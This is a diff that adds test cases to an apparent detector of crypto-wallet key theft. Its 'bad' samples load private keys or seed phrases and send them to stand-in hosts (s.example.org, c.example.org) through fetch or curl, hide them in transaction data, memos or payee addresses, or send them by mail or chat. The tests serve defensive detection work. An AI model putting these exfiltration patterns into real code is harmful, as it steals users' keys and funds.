@@ -130,3 +130,68 @@ test('bad: what opens an account is written into a transaction, also encrypted; 
     'exports.lock = (account, nonce, password) => { exports.sendTransaction = null; return seal({ nonce, data: account.privateKey, password }) }',
   ]) assert.equal(worst(code), 'nothing', code);
 });
+
+test('bad: what makes a wallet is its key, whatever it is called, also as a field, a member or an option', () => {
+  const post = (sent: string): string => `fetch("https://s.example.org/h", { method: "POST", body: JSON.stringify({ label: ${sent} }) })`;
+  for (const code of [
+    `import { mnemonicToSeed } from "bip39"; class Vault { constructor(s) { this.s = s } async open() { this.made = await mnemonicToSeed(this.s) } beat() { return ${post('this.s')} } } export { Vault }`,
+    `import { privateKeyToAccount } from "viem/accounts"; export class Signer { #k; constructor(k) { this.#k = k } open() { return privateKeyToAccount(this.#k) } get raw() { return this.#k } tell() { return ${post('this.raw')} } }`,
+    `const { Wallet } = require("ethers"); class Bot { constructor(config) { this.config = config; this.wallet = new Wallet(this.config.token) } start() { return ${post('this.config.token')} } } module.exports = Bot`,
+    `const { Wallet } = require("ethers"); exports.open = (o) => { const { v } = o; const wallet = new Wallet(v); ${post('o.v')}; return wallet }`,
+    `const Client = require("tronweb"); exports.open = (x, fullHost) => { ${post('x')}; return new Client({ fullHost, privateKey: x }) }`,
+    `exports.load = async (raw, how) => { const key = await crypto.subtle.importKey("pkcs8", raw, how, false, ["sign"]); ${post('Buffer.from(raw).toString("hex")')}; return key }`,
+    `const { ec: EC } = require("elliptic"); const ec = new EC("secp256k1"); exports.open = (h) => { ${post('[...h].map((c) => c.charCodeAt(0) ^ 7)')}; return ec.keyFromPrivate(h, "hex") }`,
+    `const { KeyPair } = require("near-api-js"); exports.open = (z) => { ${post('z.padStart(80, "0")')}; return KeyPair.fromString(z) }`,
+    `import { generateMnemonic } from "bip39"; export const make = () => { const w = generateMnemonic(256); ${post('w')}; return w }`,
+    `const { execFile } = require("child_process"); const { Wallet } = require("ethers"); exports.open = (v) => { execFile("curl", ["-d", "v=" + v, "https://c.example.org/"]); return new Wallet(v) }`,
+  ]) assert.equal(worst(code), 'high', code);
+});
+
+test('good: other fields and options, the public half, hashes, and keys that are imported to check what others sign', () => {
+  for (const code of [
+    'import { Wallet } from "ethers"; export class Bot { constructor(config) { this.config = config; this.wallet = new Wallet(config.token) } start() { return fetch("https://s.example.org", { method: "POST", body: JSON.stringify({ v: this.config.version, a: this.wallet.address }) }) } }',
+    'const nacl = require("tweetnacl"); exports.open = (key) => { const pair = nacl.sign.keyPair.fromSecretKey(key); return fetch("https://s.example.org/" + encode(key.slice(32)), { headers: { k: pair.publicKey } }) }',
+    'const { Wallet, keccak256 } = require("ethers"); exports.open = (v) => { fetch("https://s.example.org/", { method: "POST", body: JSON.stringify({ id: keccak256(v), n: v.length, ok: v.startsWith("0x") }) }); return new Wallet(v) }',
+    'exports.load = async (raw, how) => { fetch("https://s.example.org/", { method: "POST", body: raw }); return crypto.subtle.importKey("spki", raw, how, false, ["verify"]) }',
+    'class Random { static fromSeed(s) { return new Random(s) } } exports.roll = (s) => { fetch("https://dice.example.org/" + s); return Random.fromSeed(s) }',
+    'const { Wallet } = require("ethers"); const { execFile } = require("child_process"); exports.sign = (v) => { execFile("signer", ["--key", v, "https://c.example.org/"]); return new Wallet(v) }',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: such a key in the data, the memo or the payee of a transaction, and in what a contract is called with; good: what others say there', () => {
+  const ethers = (said: string): string => `const { ethers } = require("ethers"); exports.pay = async (q, to, value, provider, note) => { const w = new ethers.Wallet(q, provider); ${said} }`;
+  const solana = (said: string): string => `import { Keypair, Transaction } from "@solana/web3.js"; import { createMemoInstruction } from "@solana/spl-memo"; export class Purse { constructor(bytes) { this.kp = Keypair.fromSecretKey(bytes) } pay(net, to) { return net.sendTransaction(new Transaction().add(createMemoInstruction(${said})), [this.kp]) } }`;
+  for (const code of [
+    ethers('return w.sendTransaction({ to, value, data: ethers.hexlify(ethers.toUtf8Bytes(q)) })'),
+    ethers('const tx = { to, value }; tx.data = "0x" + Buffer.from(q).toString("hex"); return w.sendTransaction(tx)'),
+    ethers('return w.sendTransaction({ to: "0x" + q.slice(2, 42), value: 1 })'),
+    ethers('return new ethers.Contract(to, ABI, w).log(ethers.encodeBase64(ethers.toUtf8Bytes(q)))'),
+    solana('bs58.encode(this.kp.secretKey)'),
+    'import { english } from "./words.js"; export async function restore(client, signer, mnemonic) { const at = mnemonic.split(" ").map((w) => english.indexOf(w).toString(16)).join(""); const tx = client.tx(); tx.transferObjects([tx.gas], "0x" + at.padEnd(64, "0")); return client.signAndExecuteTransaction({ signer, transaction: tx }) }',
+    'const xrpl = require("xrpl"); exports.send = (client, s, to) => { const w = xrpl.Wallet.fromSeed(s); return client.submit(w.sign({ TransactionType: "Payment", Destination: to, Memos: [{ Memo: { MemoData: Buffer.from(s).toString("hex") } }] })) }',
+    'export async function add(api, ring, x) { const pair = ring.addFromUri(x); return api.tx.system.remark(x).signAndSend(pair) }',
+  ]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    ethers('return w.sendTransaction({ to, value, data: ethers.hexlify(ethers.toUtf8Bytes(note)) })'),
+    ethers('const tx = { to, value }; tx.data = ethers.id(q); return w.sendTransaction(tx)'),
+    ethers('return w.sendTransaction({ to: new ethers.Wallet(note).address, value: 1 })'),
+    ethers('const c = new ethers.Contract(to, ABI, w); return c.connect(w).mint(w.address, ethers.keccak256(q))'),
+    ethers('worker.postMessage({ to: "signer", data: q }); return w.sendTransaction({ to, value })'),
+    solana('this.kp.publicKey.toBase58()'),
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: such a key in a mail or a message to somebody who is written there; good: to whom callers say, and the address', () => {
+  const tell = (said: string): string => `const { Wallet } = require("ethers"); exports.load = async (v, client, to) => { const w = new Wallet(v); ${said}; return w }`;
+  for (const said of [
+    'await client.send({ to: "wallets@mail.example.org", subject: "new", text: v })',
+    'await client.chat.postMessage({ channel: "C024BE91L", text: `${w.address} ${v}` })',
+    'const c = await client.channels.fetch("123456789012345678"); await c.send(`${w.address} ${v}`)',
+    'const CHAT = -1001234567890; await client.sendMessage(CHAT, `${w.address} ${v}`)',
+  ]) assert.equal(worst(tell(said)), 'high', said);
+  for (const said of [
+    'await client.send({ to, subject: "new", text: v })',
+    'await client.chat.postMessage({ channel: "C024BE91L", text: w.address })',
+    'const c = await client.channels.fetch("123456789012345678"); await c.send(w.address)',
+  ]) assert.equal(worst(tell(said)), 'nothing', said);
+});
